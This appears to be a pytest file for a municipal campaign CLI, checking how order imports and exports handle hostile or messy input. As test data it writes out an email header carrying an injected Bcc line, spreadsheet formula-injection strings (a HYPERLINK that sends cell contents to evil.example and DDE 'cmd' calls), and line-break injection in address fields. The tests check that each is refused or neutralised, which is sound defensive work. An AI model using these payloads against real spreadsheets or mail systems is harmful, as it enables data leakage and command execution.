"""Files from outside, as staff get them: a mailbox with one hostile message, texts that are
spreadsheet formulas, line breaks where one line is meant, an address too long for any slip,
and the CSV and workbooks Excel saves."""

from __future__ import annotations

import csv
import datetime as dt
import io
import mailbox
from pathlib import Path

from openpyxl import Workbook, load_workbook

from bluekit.cli import app
from bluekit.kit.order_form import order_strings

from .conftest import CAMPAIGN_2024
from .test_order_intake import filled_form, mail

C = str(CAMPAIGN_2024)

# --- a mailbox with one hostile message -------------------------------------------------------

EVIL_FROM = "=?utf-8?q?Evil=0D=0ABcc=3A_x=40evil=2Eexample?= <a@b.example>"


def test_one_unreadable_mail_goes_to_review_and_the_rest_of_the_mbox_comes_in(
    runner, tmp_path: Path, db_url: str
) -> None:
    box = mailbox.mbox(tmp_path / "teh.mbox")
    box.add(mail(filled_form("nl", {"PIN-BLUEHEART": "10"}), message_id="<one@example.org>"))
    good = mail(filled_form("fr", {"PIN-BLUEHEART": "20"}), message_id="<evil@example.org>")
    headers, body = good.split(b"\n\n", 1)
    box.add(b"From: " + EVIL_FROM.encode() + b"\n" + b"\n".join(
        line for line in headers.split(b"\n") if not line.startswith(b"From:")) + b"\n\n" + body)
    box.add(mail(filled_form("de", {"PIN-BLUEHEART": "30"}), message_id="<three@example.org>"))
    box.close()
    db = db_url
    args = ["orders", "import", C, str(tmp_path / "teh.mbox"), "--db", db]
    result = runner.invoke(app, args)
    assert result.exit_code == 0, result.output
    assert "2 order(s) added, 0 already imported, 1 for review" in result.output
    assert "address parts cannot contain CR or LF" in result.output
    assert "Traceback" not in result.output
    again = runner.invoke(app, args)
    assert "0 order(s) added, 3 already imported, 0 for review" in again.output
    listed = runner.invoke(app, ["orders", "review", C, "--db", db])
    assert listed.exit_code == 0 and "Evil=0D=0ABcc" in listed.output  # as it stands, no CR/LF
    assert "\r" not in listed.output and "\nBcc" not in listed.output


# --- spreadsheet formulas in exports ----------------------------------------------------------

FORMULAS = ['=HYPERLINK("https://evil.example/?x="&A1,"Stadhuis")', "+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"]


def test_texts_that_are_formulas_come_out_of_every_export_as_text(
    runner, write_campaign, tmp_path: Path, db_url: str
) -> None:
    db = db_url
    for code, building in zip(["34022", "62063", "63023", "11002"], FORMULAS, strict=True):
        recorded = runner.invoke(app, ["lighting", "record", C, code, "--accepted", "--building",
                                       building, "--db", db])
        assert recorded.exit_code == 0, recorded.output
    out = tmp_path / "dist"
    assert runner.invoke(app, ["lighting", "report", C, "--db", db, "--out", str(out)]
                         ).exit_code == 0
    rows = list(csv.reader(io.StringIO((out / "lighting" / "blue-buildings.csv")
                                       .read_text("utf-8-sig")), delimiter=";"))
    buildings = [row[3] for row in rows[1:]]
    assert sorted(buildings) == sorted("'" + f for f in FORMULAS)  # a quote first: text

    first = {}

    def change(data) -> None:  # a catalogue name that starts like a formula
        data["materials"][0]["name"] = {lang: "=1+1" for lang in data["languages"]}
        first["code"] = data["materials"][0]["code"]

    campaign = write_campaign(change)
    ordered = _add(runner, tmp_path, campaign=str(campaign), db=db, item=f"{first['code']}=5")
    assert ordered.exit_code == 0, ordered.output
    report = tmp_path / "orders.xlsx"
    made = runner.invoke(app, ["orders", "report", str(campaign), "--out", str(report),
                               "--db", db])
    assert made.exit_code == 0, made.output
    sheet = load_workbook(report)["Items"]
    names = [row[1] for row in sheet.iter_rows(min_row=2)]
    cell = next(c for c in names if c.value == "=1+1")
    assert cell.data_type == "s" and cell.quotePrefix  # text, shown as typed


# --- one-line fields and the packing slip -----------------------------------------------------


def _add(runner, tmp_path: Path, *, campaign: str = C, db: str | None = None,
         item: str = "PIN-BLUEHEART=5", **fields: str):
    values = {"organisation": "Stad Gent", "contact": "Piet De Smet", "email": "piet@stad.gent",
              "street": "Botermarkt 1", "postcode": "9000", "city": "Gent", "language": "nl",
              **fields}
    args = ["orders", "add", campaign, "--db", db or str(tmp_path / "orders.db"), "--item", item]
    for name, value in values.items():
        args += [f"--{name}", value]
    return runner.invoke(app, args)


def test_a_unicode_line_break_in_a_one_line_field_is_refused(runner, tmp_path: Path) -> None:
    for sep in ("\u2028", "\u2029", "\u0085", "\x0b"):
        result = _add(runner, tmp_path, street=f"Botermarkt 1{sep}Bcc: x@evil.example")
        assert result.exit_code == 2, result.output
        assert "street holds a line break or a control character" in result.output


def test_an_address_that_can_never_fit_its_slip_is_refused_when_it_comes_in(
    runner, tmp_path: Path
) -> None:
    refused = _add(runner, tmp_path, organisation="Gemeentebestuur " * 40)
    assert refused.exit_code == 2, refused.output
    assert "does not fit the packing slip's window even in its smallest type" in refused.output
    long = ("Gemeentebestuur van Sint-Genesius-Rode, dienst communicatie, evenementen en "
            "internationale samenwerking, ter attentie van het onthaal")
    accepted = _add(runner, tmp_path, organisation=long)
    assert accepted.exit_code == 0, accepted.output
    papers = runner.invoke(app, ["orders", "documents", C, "--db", str(tmp_path / "orders.db"),
                                 "--out", str(tmp_path / "dist")])
    assert papers.exit_code == 0, papers.output  # what came in can be printed
    assert list((tmp_path / "dist" / "orders").glob("*/packing-slip-*.pdf"))


# --- what Excel saves -------------------------------------------------------------------------

CONTACTS_HEADER = "refnis;municipality;email;addressee;street;postcode;city;language\r\n"


def test_a_contacts_csv_in_excels_ansi_code_page_is_read_and_said_so(runner, tmp_path) -> None:
    path = tmp_path / "contacts.csv"
    path.write_bytes((CONTACTS_HEADER + "62063;Liège;college@liege.example.org;Collège "
                      "communal;Place du Marché 2;4000;Liège;\r\n").encode("cp1252"))
    result = runner.invoke(app, ["municipalities", "contacts", str(path)])
    assert result.exit_code == 0, result.output
    assert "Liège" in result.output and "LiÃ¨ge" not in result.output
    assert f"note: {path} is not UTF-8: read as Windows-1252 (ANSI)" in result.output


def _workbook(path: Path, rows: list[list[object]]) -> Path:
    book = Workbook()
    for row in rows:
        book.active.append(row)
    book.save(path)
    return path


def test_contacts_replies_and_orders_may_be_excel_workbooks(
    runner, tmp_path: Path, db_url: str
) -> None:
    contacts = _workbook(tmp_path / "contacts.xlsx", [
        CONTACTS_HEADER.strip().split(";"),
        [34022, "Kortrijk", "stad@kortrijk.example.org", "College", "Grote Markt 54", 8500,
         "Kortrijk", None],
        [62063, "Liège", "college@liege.example.org", None, None, None, None, "fr"],
    ])
    checked = runner.invoke(app, ["municipalities", "contacts", str(contacts)])
    assert checked.exit_code == 0 and "Kortrijk" in checked.output and "Liège" in checked.output
    db = db_url
    replies = _workbook(tmp_path / "replies.xlsx", [
        ["refnis", "status", "building", "from", "until", "reason"],
        [34022, "ja", "Belfort", dt.time(21, 0), dt.time(1, 0), None],
        ["Luik", "non", None, None, None, "budget"],
    ])
    imported = runner.invoke(app, ["lighting", "import", C, str(replies), "--db", db])
    assert imported.exit_code == 0, imported.output
    status = runner.invoke(app, ["lighting", "status", C, "--db", db, "--json"])
    assert '"accepted": 1' in status.output and '"declined": 1' in status.output
    labels = order_strings()["nl"]
    orders = _workbook(tmp_path / "orders.xlsx", [
        [labels["label_organisation"], "contact", "email", "street", "postcode", "city",
         "language", "PIN-BLUEHEART"],
        ["Stad Gent", "Piet De Smet", "piet@stad.gent", "Botermarkt 1", 9000, "Gent", "nl", 25],
    ])
    added = runner.invoke(app, ["orders", "import", C, str(orders), "--db", db])
    assert added.exit_code == 0 and "1 order(s) added" in added.output, added.output
    shown = runner.invoke(app, ["orders", "show", C, "2024-0001", "--db", db])
    assert "9000 Gent" in shown.output and "25 x PIN-BLUEHEART" in shown.output


def test_a_bad_row_of_a_workbook_is_named_by_its_row(runner, tmp_path: Path) -> None:
    contacts = _workbook(tmp_path / "contacts.xlsx", [
        CONTACTS_HEADER.strip().split(";"),
        [34022, "Kortrijk", "stad@kortrijk.example.org"],
        [99999, "Atlantis", "x@atlantis.example.org"],
    ])
    result = runner.invoke(app, ["municipalities", "contacts", str(contacts)])
    assert result.exit_code == 1
    assert f"{contacts}:3: error: refnis: unknown REFNIS code '99999'" in result.output
